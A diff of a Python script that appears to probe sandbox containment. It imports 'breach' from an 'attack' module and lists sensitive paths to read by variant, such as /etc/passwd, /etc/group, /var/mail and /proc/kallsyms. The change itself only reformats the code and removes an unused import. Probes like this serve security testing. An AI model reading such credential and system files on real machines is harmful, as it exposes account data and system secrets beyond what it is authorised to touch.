@@ -6,7 +6,7 @@ Variants: passwd, shadow, hosts, keys, logs, machine, boot, kernel
 
 import glob
 
-from attack import VARIANT, breach, os, say
+from attack import VARIANT, breach, say
 
 PLACES = {
     "passwd": ["/etc/passwd", "/etc/group"],
@@ -16,7 +16,13 @@ PLACES = {
     "logs": ["/var/log/*", "/var/lib/dpkg/status", "/var/mail/*", "/etc/passwd"],
     "machine": ["/etc/machine-id", "/sys/class/dmi/id/*", "/proc/cpuinfo", "/etc/os-release"],
     "boot": ["/boot/*", "/proc/cmdline", "/etc/default/*"],
-    "kernel": ["/proc/kallsyms", "/proc/modules", "/sys/kernel/notes", "/proc/version", "/sys/module/*/version"],
+    "kernel": [
+        "/proc/kallsyms",
+        "/proc/modules",
+        "/sys/kernel/notes",
+        "/proc/version",
+        "/sys/module/*/version",
+    ],
 }
 for pattern in PLACES[VARIANT]:
     for path in glob.glob(pattern) or [pattern]:
